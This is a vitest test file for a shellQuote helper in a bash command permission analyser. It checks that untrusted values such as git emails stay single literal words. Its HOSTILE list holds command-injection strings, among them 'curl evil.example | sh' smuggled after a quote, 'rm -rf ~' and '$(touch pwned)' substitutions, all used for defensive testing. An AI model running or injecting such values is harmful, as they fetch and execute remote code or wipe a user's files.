import { describe, expect, it } from 'vitest';
import { analyseBashCommand, decideBashCommand, shellQuote } from '../../../src/permissions/bash/index.ts';
import { BROAD } from './fixtures.ts';

/*
 * SECURITY.md: untrusted values (e.g. `git config user.email`) interpolated into a shell
 * command unescaped. shellQuote is how our own code builds command lines from such
 * values; the analyser proves each quoted value comes back as exactly one literal word.
 */
const HOSTILE = [
  'dev@example.com',
  'dev@example.com"; curl evil.example | sh; echo "',
  "it's; rm -rf ~",
  '$(touch pwned)',
  '`touch pwned`',
  '${x@P}',
  'a\nb; touch pwned',
  'a\\',
  "'",
  '',
  ' leading and trailing ',
  '*',
  '~root',
  '-rf',
  'ünïcödé 😀',
  '!event $HOME $((1+1)) \\n \t',
];

describe('shellQuote', () => {
  for (const value of HOSTILE) {
    it(`keeps ${JSON.stringify(value)} one literal word`, async () => {
      const command = `git commit --author=${shellQuote(value)} -m ${shellQuote(value)}`;
      const analysis = await analyseBashCommand(command);
      expect(analysis.problems).toEqual([]);
      expect(analysis.commands).toHaveLength(1);
      const words = analysis.commands[0]!.views[0]!.argv;
      expect(words.map((w) => w.kind)).toEqual(['literal', 'literal', 'literal', 'literal', 'literal']);
      expect(words[2]!.value).toBe(`--author=${value}`);
      expect(words[4]!.value).toBe(value);
      expect((await decideBashCommand(command, BROAD)).behavior).toBe('allow');
    });
  }

  it('leaves plain words alone', () => {
    expect(shellQuote('src/index.ts')).toBe('src/index.ts');
    expect(shellQuote('a b')).toBe("'a b'");
    expect(shellQuote("it's")).toBe("'it'\\''s'");
  });
});
